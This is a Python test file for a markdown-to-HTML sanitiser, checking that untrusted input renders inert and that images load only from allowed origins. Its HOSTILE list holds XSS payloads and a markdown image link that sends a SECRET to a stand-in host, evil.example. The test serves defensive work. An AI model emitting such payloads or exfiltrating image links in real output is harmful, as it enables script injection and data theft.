"""rxstream.markdown: untrusted markdown to HTML that cannot run, style or fetch anything."""

from __future__ import annotations

import pytest

pytest.importorskip("nh3")
pytest.importorskip("markdown_it")

from html.parser import HTMLParser

from rxstream.markdown import HtmlRenderer, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>overlay</div>",
    "<a href='javascript:alert(1)'>raw link</a>",
    "[md link](javascript:alert(1))",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![exfiltrate](https://evil.example/collect?q=SECRET)",
    "![data image](data:image/png;base64,iVBORw0KGgo=)",
    '```"><script>alert(1)</script>\ncode\n```',
    "<svg onload=alert(1)>",
    "<form action=https://evil.example><input name=q></form>",
    "<!-- <script>alert(1)</script> -->",
]


class Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_renders_inert(markdown: str) -> None:
    for tag, attributes in elements(to_html(markdown)):
        assert tag in {"p", "pre", "code", "a", "span"}, tag
        assert not any(name.startswith("on") or name == "style" for name in attributes)
        for name in ("href", "src"):
            value = (attributes.get(name) or "").lower()
            assert not value or value.startswith(("https://", "http://", "mailto:")), value
        assert "evil.example/collect" not in (attributes.get("href") or "")


def test_markdown_structure_survives() -> None:
    html = to_html(
        "# Title\n\n**bold** *it* `code` ~~gone~~ [docs](https://example.com/a?b=1)\n\n"
        "- a\n- b\n\n3. three\n\n> quote\n\n---\n\n"
        "| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n```python\nprint('<b>')\n```\n"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<em>it</em>" in html
    assert "<code>code</code>" in html
    assert "<s>gone</s>" in html
    assert '<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">' in html
    assert '<ol start="3">' in html
    assert "<blockquote>" in html
    assert "<hr>" in html
    assert '<th class="align-left">l</th>' in html
    assert '<td class="align-right">3</td>' in html
    assert "<code class=\"language-python\">print('&lt;b&gt;')" in html


def test_images_load_only_from_allowed_origins() -> None:
    render = HtmlRenderer(image_origins=["https://cdn.example.com"])
    html = render(
        "![ok](https://cdn.example.com/a.png) ![lookalike](https://cdn.example.com.evil.test/a.png)"
        " ![port](https://cdn.example.com:8443/a.png) ![plain](http://cdn.example.com/a.png)"
    )
    assert html.count("<img") == 1
    assert '<img src="https://cdn.example.com/a.png" alt="ok">' in html
    assert '<span class="image-blocked" title="image not loaded">[lookalike]</span>' in html
    assert "[port]" in html
    assert "[plain]" in html
    with pytest.raises(ValueError, match="image origin"):
        HtmlRenderer(image_origins=["cdn.example.com"])
